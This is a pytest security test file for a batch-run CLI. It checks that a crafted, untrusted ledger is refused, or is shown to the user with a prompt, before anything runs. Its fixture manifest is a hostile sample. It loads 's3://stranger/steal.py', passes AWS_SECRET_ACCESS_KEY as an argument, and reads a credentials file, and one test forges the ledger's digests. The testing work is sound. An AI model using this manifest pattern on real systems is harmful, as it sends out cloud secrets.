"""A ledger that somebody else made does nothing on a terminal before it was shown and allowed."""

import json
from hashlib import sha256
from pathlib import Path

import pytest

from batchrun.emulator.http.server import EmulatorServer
from tests.cli.conftest import held
from tests.cli.terminal import Terminal
from tests.security.hostile import batchrun

TEXT = """\
version = 1
[run]
name    = "crafted-{{row.x}}"
runtime = "tiny"
region  = "aws-us-west-2"
python  = "s3://stranger/steal.py"
args    = ["{{env.AWS_SECRET_ACCESS_KEY}}", "{{row.x}}"]
[axes.row]
file = "credentials.csv"
"""


@pytest.fixture
def crafted(tmp_path: Path, server: EmulatorServer) -> Path:
    """A ledger whose manifest reads a file elsewhere and sends an environment value; nothing in it was ever sent."""
    home = tmp_path / "home"
    home.mkdir()
    (home / "credentials.csv").write_text("x\nsecret1\nsecret2\n")
    batch = {
        "event": "batch", "at": "2026-11-01T00:00:00.000Z", "format": 1, "batch_id": "b", "name": "crafted", "runs": 2,
        "plan_sha256": "", "base_url": server.url, "batchrun": "0.2.0", "manifest": TEXT, "directory": str(home),
    }  # fmt: skip
    path = tmp_path / "gift" / "crafted.ledger.jsonl"
    path.parent.mkdir()
    path.write_text(json.dumps(batch).replace(": ", ":", 1) + "\n")
    return path


def test_a_digest_that_is_missing_counts_as_changed(crafted: Path, server: EmulatorServer) -> None:
    words = ("resume", crafted.name, "--base-url", server.url)
    refused = batchrun(crafted.parent, *words, AWS_SECRET_ACCESS_KEY="aws-secret-value")
    assert refused.returncode == 4, refused
    assert "env.AWS_SECRET_ACCESS_KEY" in refused.stderr
    assert held(server) == []


def test_it_is_shown_and_asked_on_a_terminal(
    crafted: Path, server: EmulatorServer, terminals: list[Terminal], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "aws-secret-value")
    # The digests of a ledger can be made by whoever makes the ledger, if the value is known or guessed.
    dry = batchrun(crafted.parent, "plan", make_manifest(crafted), "--json", AWS_SECRET_ACCESS_KEY="aws-secret-value")
    first = json.loads(crafted.read_text())
    first["plan_sha256"] = json.loads(dry.stdout)["sha256"]
    first["files"] = [{"path": "env.AWS_SECRET_ACCESS_KEY", "sha256": sha256(b"aws-secret-value").hexdigest()}]
    crafted.write_text(json.dumps(first).replace(": ", ":", 1) + "\n")
    terminal = Terminal("resume", crafted, "--base-url", server.url, cwd=crafted.parent, COLUMNS="300")
    terminals.append(terminal)
    terminal.wait_for("[y/N]")
    for shown in ("s3://stranger/steal.py (2 runs)", "AWS_SECRET_ACCESS_KEY", "home/credentials.csv", server.url):
        assert shown in terminal.printed
    assert "aws-secret-value" not in terminal.printed
    terminal.type("\n")
    assert terminal.wait() == 3
    assert held(server) == []


def make_manifest(ledger: Path) -> str:
    path = ledger.parent.parent / "home" / "crafted.toml"
    path.write_text(TEXT)
    return str(path)
